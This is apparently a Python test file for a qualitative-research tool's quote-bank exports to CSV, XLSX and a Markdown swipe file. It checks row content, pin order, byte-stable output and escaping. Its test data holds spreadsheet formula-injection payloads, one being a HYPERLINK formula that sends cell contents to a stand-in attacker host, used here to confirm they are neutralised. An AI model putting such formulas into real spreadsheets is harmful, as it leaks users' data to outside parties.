"""Quote bank exports (CSV, XLSX, swipe-file Markdown) against the project's current state."""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile

import openpyxl
import pytest

from qualseg import editing
from qualseg.escaping import md_escape
from qualseg.exports.context import ExportContext, build_context
from qualseg.exports.quote_table import (
    render_csv,
    render_swipe_md,
    render_xlsx,
)
from qualseg.ingest.timecode import timecode
from qualseg.store.runs import RunRecord

DANGEROUS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")',
    "+1 and then some",
    "-2 is what we lost",
    "@SUM(A1:A9)",
    "=1+1",
    "\tleading tab",
)


def run_record() -> RunRecord:
    return RunRecord(
        id=7,
        started_at="2026-03-01T09:00:00+00:00",
        finished_at="2026-03-01T09:01:00+00:00",
        status="done",
        seed=42,
        model="all-MiniLM-L6-v2",
        config="{}",
        versions={"qualseg": "0.1.0"},
        error="",
    )


def hand_built_report() -> dict:
    """A small current-state report with formula-like text in every kind of text cell."""
    excerpts = [
        {
            "id": f"abc123:{n * 100}-{n * 100 + len(text)}",
            "participant": "P1" if n % 2 == 0 else "P2",
            "source": "interview.txt",
            "start": n * 100,
            "end": n * 100 + len(text),
            "timestamp": 61.5 * n if n else None,
            "text": text,
            "kinds": ["need"],
            "themes": ["need-0"],
            "dismissed": False,
        }
        for n, text in enumerate(DANGEROUS)
    ]
    excerpts.append(
        {
            "id": "abc123:900-930",
            "participant": "P1",
            "source": "interview.txt",
            "start": 900,
            "end": 930,
            "timestamp": None,
            "text": "#N/A is what the sheet said",
            "kinds": ["objection"],
            "themes": [],
            "dismissed": False,
        }
    )
    excerpts.append(
        {
            "id": "abc123:950-960",
            "participant": "P2",
            "source": "interview.txt",
            "start": 950,
            "end": 960,
            "timestamp": None,
            "text": "=DISMISSED()",
            "kinds": ["need"],
            "themes": ["need-0"],
            "dismissed": True,
        }
    )
    return {
        "run": {"seed": 42, "model": "all-MiniLM-L6-v2"},
        "participants": [
            {
                "id": "P1",
                "name": "=Participant 1",
                "source": "interview.txt",
                "segment": "S1",
                "metadata": {"industry": "-Retail", "@size": "+51-200"},
            },
            {
                "id": "P2",
                "name": "Participant 2",
                "source": "interview.txt",
                "segment": None,
                "metadata": {"industry": "Software"},
            },
        ],
        "excerpts": excerpts,
        "themes": [
            {
                "id": "need-0",
                "lens": "need",
                "label": "@label that looks like a formula",
                "keyphrases": [],
                "participants": ["P1", "P2"],
                "excerpts": [e["id"] for e in excerpts[:-2]],
                "quotes": [],
            }
        ],
        "segments": [
            {
                "id": "S1",
                "label": "-minus segment",
                "participants": ["P1"],
                "themes": ["need-0"],
                "psychographics": [],
                "triggers": [],
                "objections": [],
                "quotes": [],
                "measures": {},
            }
        ],
        "pins": [excerpts[3]["id"], excerpts[0]["id"]],
        "measures": {},
    }


def hand_built_context(report: dict | None = None, **changes) -> ExportContext:
    ctx = ExportContext(
        project="acme",
        report=report if report is not None else hand_built_report(),
        run=run_record(),
        edits=3,
        transcripts=(),
        pseudonymised=True,
        generated_at="2026-03-02T10:11:12+00:00",
    )
    return dataclasses.replace(ctx, **changes)


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark for spreadsheets"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def sheet_rows(ws) -> list[dict[str, object]]:
    rows = list(ws.iter_rows(values_only=True))
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def edited_store(store):
    """Rename a theme, dismiss one of its excerpts, pin two quotes; the current state after."""
    state = editing.current_state(store)
    theme = next(t for t in state.report["themes"] if t["lens"] == "need")
    editing.rename_theme(store, theme["id"], "Month-end close takes too long")
    dismissed = theme["excerpts"][0]
    editing.dismiss_excerpt(store, dismissed)
    pinned = [theme["excerpts"][2], theme["excerpts"][1]]
    for key in pinned:
        editing.pin_quote(store, key)
    return theme["id"], dismissed, pinned


# -- the current state ----------------------------------------------------------------------------


def test_csv_rows_are_the_non_dismissed_excerpts_of_the_current_state(analyzed_store):
    theme_id, dismissed, pinned = edited_store(analyzed_store)
    ctx = build_context(analyzed_store, pseudonymise=False)
    rows = read_csv(render_csv(ctx))

    live = [e for e in ctx.report["excerpts"] if not e.get("dismissed")]
    assert [r["excerpt_id"] for r in rows] == [e["id"] for e in live]
    assert dismissed not in {r["excerpt_id"] for r in rows}
    assert len(rows) == len(ctx.report["excerpts"]) - 1

    columns = list(rows[0])
    assert columns[:8] == [
        "excerpt_id",
        "segment",
        "segment_label",
        "themes",
        "theme_labels",
        "kinds",
        "participant_id",
        "participant",
    ]
    for meta in ("industry", "company", "job_title", "outcome", "region", "company_size"):
        assert meta in columns
    assert columns[-9:] == [
        "text",
        "words",
        "source",
        "start",
        "end",
        "timestamp",
        "time",
        "punchy",
        "pinned",
    ]

    people = {p["id"]: p for p in ctx.report["participants"]}
    segments = {s["id"]: s["label"] for s in ctx.report["segments"]}
    by_id = {r["excerpt_id"]: r for r in rows}
    for e in live:
        row = by_id[e["id"]]
        person = people[e["participant"]]
        assert row["text"] in (e["text"], "'" + e["text"])
        assert row["source"] == e["source"]
        assert (int(row["start"]), int(row["end"])) == (e["start"], e["end"])
        assert row["participant_id"] == e["participant"]
        assert row["participant"] == person["name"]
        assert row["segment"] == (person["segment"] or "")
        assert row["segment_label"] == (segments[person["segment"]] if person["segment"] else "")
        assert row["kinds"] == ";".join(e["kinds"])
        assert row["industry"] == person["metadata"].get("industry", "")
        if e["timestamp"] is None:
            assert row["timestamp"] == ""
        else:
            assert float(row["timestamp"]) == pytest.approx(e["timestamp"])
            assert row["time"] == timecode(e["timestamp"])
        assert row["pinned"] == ("yes" if e["id"] in pinned else "no")

    # The rename is visible wherever the theme's excerpts appear.
    in_theme = [r for r in rows if theme_id in r["themes"].split(";")]
    assert in_theme
    assert all("Month-end close takes too long" in r["theme_labels"] for r in in_theme)
    # participants.csv metadata reached the rows.
    priya = [r for r in rows if r["participant"] == "Priya Raman"]
    assert priya and {r["industry"] for r in priya} == {"Logistics"}
    assert {r["company"] for r in priya} == {"Bluepeak Freight"}


def test_xlsx_holds_the_same_rows_with_a_swipe_file_and_about_sheet(analyzed_store):
    _theme_id, dismissed, pinned = edited_store(analyzed_store)
    ctx = build_context(analyzed_store, pseudonymise=False)
    csv_rows = read_csv(render_csv(ctx))
    wb = openpyxl.load_workbook(io.BytesIO(render_xlsx(ctx)))
    assert wb.sheetnames == ["Quotes", "Swipe file", "About"]

    quotes = wb["Quotes"]
    rows = sheet_rows(quotes)
    assert len(rows) == len(csv_rows)
    for xrow, crow in zip(rows, csv_rows, strict=True):
        assert list(xrow) == list(crow)
        for key, value in xrow.items():
            if isinstance(value, int | float):
                assert value == pytest.approx(float(crow[key])), key
            else:
                assert ("" if value is None else value) == crow[key], key
    assert dismissed not in {r["excerpt_id"] for r in rows}
    assert all(isinstance(r["start"], int) for r in rows)

    assert all(c.font.bold for c in quotes[1])
    assert quotes.freeze_panes == "A2"
    assert quotes.auto_filter.ref == f"A1:{quotes.cell(1, quotes.max_column).column_letter}" + str(
        len(rows) + 1
    )
    header = [c.value for c in quotes[1]]
    text_col = header.index("text") + 1
    assert quotes.cell(2, text_col).alignment.wrap_text
    letter = quotes.cell(1, text_col).column_letter
    assert quotes.column_dimensions[letter].width >= 60
    assert 8 <= quotes.column_dimensions["A"].width <= 40

    swipe = sheet_rows(wb["Swipe file"])
    assert [r["excerpt_id"] for r in swipe] == pinned  # in the order they were pinned
    assert all(r["pinned"] == "yes" for r in swipe)

    about = {r[0]: r[1] for r in wb["About"].iter_rows(values_only=True)}
    assert about["project"] == "sample"
    assert about["generated_at"] == ctx.generated_at
    assert about["run"] == ctx.run.id
    assert about["seed"] == ctx.run.seed
    assert about["model"] == ctx.run.model
    assert about["pseudonymised"] == "no"
    assert about["edits applied"] == 4
    assert about["quotes"] == len(rows)
    assert about["pinned quotes"] == 2
    pseudo = openpyxl.load_workbook(
        io.BytesIO(render_xlsx(dataclasses.replace(ctx, pseudonymised=True)))
    )
    assert {r[0]: r[1] for r in pseudo["About"].iter_rows(values_only=True)}[
        "pseudonymised"
    ] == "yes"


# -- spreadsheet safety ---------------------------------------------------------------------------


def test_csv_escapes_every_cell_that_starts_a_formula():
    ctx = hand_built_context()
    data = render_csv(ctx)
    rows = read_csv(data)
    texts = [r["text"] for r in rows]
    for text in DANGEROUS:
        assert "'" + text in texts
    assert "'#N/A is what the sheet said" not in texts  # not a formula start: kept as said
    assert "#N/A is what the sheet said" in texts
    assert "'=DISMISSED()" not in texts and "=DISMISSED()" not in texts
    header = list(rows[0])
    assert "'@size" in header and "industry" in header
    first = rows[0]
    assert first["participant"] == "'=Participant 1"
    assert first["industry"] == "'-Retail"
    assert first["'@size"] == "'+51-200"
    assert first["theme_labels"] == "'@label that looks like a formula"
    assert first["segment_label"] == "'-minus segment"
    raw = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    for cells in raw:
        for cell in cells:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell


def test_xlsx_stores_formula_like_text_as_strings():
    ctx = hand_built_context()
    wb = openpyxl.load_workbook(io.BytesIO(render_xlsx(ctx)))
    for name in ("Quotes", "Swipe file", "About"):
        for row in wb[name].iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (name, cell.coordinate, cell.value)
                    assert cell.value[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell.value
                else:
                    assert cell.data_type in ("n", "s"), (name, cell.coordinate, cell.data_type)
    texts = [r["text"] for r in sheet_rows(wb["Quotes"])]
    for text in DANGEROUS:
        assert "'" + text in texts
    assert "#N/A is what the sheet said" in texts
    swipe = sheet_rows(wb["Swipe file"])
    assert [r["text"] for r in swipe] == ["'" + DANGEROUS[3], "'" + DANGEROUS[0]]
    # No formula or error cell anywhere in the sheet XML either.
    with zipfile.ZipFile(io.BytesIO(render_xlsx(ctx))) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml and 't="e"' not in xml


def test_xlsx_replaces_characters_xml_cannot_hold():
    report = hand_built_report()
    report["excerpts"][1]["text"] = "bell\x07 and form\x0cfeed"
    report["excerpts"][2]["text"] = "not a character: \uffff\ufffe, an emoji stays: \U0001f600"
    wb = openpyxl.load_workbook(io.BytesIO(render_xlsx(hand_built_context(report))))
    texts = [r["text"] for r in sheet_rows(wb["Quotes"])]
    assert "bell\ufffd and form\ufffdfeed" in texts
    assert "not a character: \ufffd\ufffd, an emoji stays: \U0001f600" in texts
    assert "bell\x07 and form\x0cfeed" in [
        r["text"] for r in read_csv(render_csv(hand_built_context(report)))
    ]


def test_xlsx_bytes_depend_only_on_the_context():
    ctx = hand_built_context()
    first = render_xlsx(ctx)
    assert render_xlsx(hand_built_context()) == first
    wb = openpyxl.load_workbook(io.BytesIO(first))
    assert wb.properties.created.isoformat() == "2026-03-02T10:11:12"
    assert wb.properties.modified.isoformat() == "2026-03-02T10:11:12"
    later = render_xlsx(hand_built_context(generated_at="2026-03-03T10:11:12+00:00"))
    assert later != first


# -- swipe file -----------------------------------------------------------------------------------


def test_swipe_file_markdown_lists_the_pinned_quotes_in_pin_order():
    ctx = hand_built_context()
    text = render_swipe_md(ctx).decode("utf-8")
    assert text.startswith("# Swipe file · acme\n")
    assert "2 quotes." in text
    first, second = DANGEROUS[3], DANGEROUS[0]
    assert text.index(md_escape(first)) < text.index(md_escape(second))
    assert "interview.txt @300" in text and "interview.txt @0" in text
    assert "=1\\+1" not in text  # not pinned
    assert "pseudonymised" in text and "run 7" in text
    empty = hand_built_report()
    empty["pins"] = []
    blank = render_swipe_md(hand_built_context(empty)).decode("utf-8")
    assert "0 quotes." in blank and "No pinned quotes yet" in blank


def test_swipe_file_of_the_project_follows_its_pins(analyzed_store):
    _theme, _dismissed, pinned = edited_store(analyzed_store)
    ctx = build_context(analyzed_store, pseudonymise=False)
    text = render_swipe_md(ctx).decode("utf-8")
    excerpts = {e["id"]: e for e in ctx.report["excerpts"]}
    positions = [text.index(md_escape(excerpts[k]["text"])) for k in pinned]
    assert positions == sorted(positions)
    for key in pinned:
        assert md_escape(f"{excerpts[key]['source']} @{excerpts[key]['start']}") in text


def test_timecode():
    assert timecode(None) == ""
    assert timecode(6.9) == "0:06"
    assert timecode(125) == "2:05"
    assert timecode(3725.2) == "1:02:05"
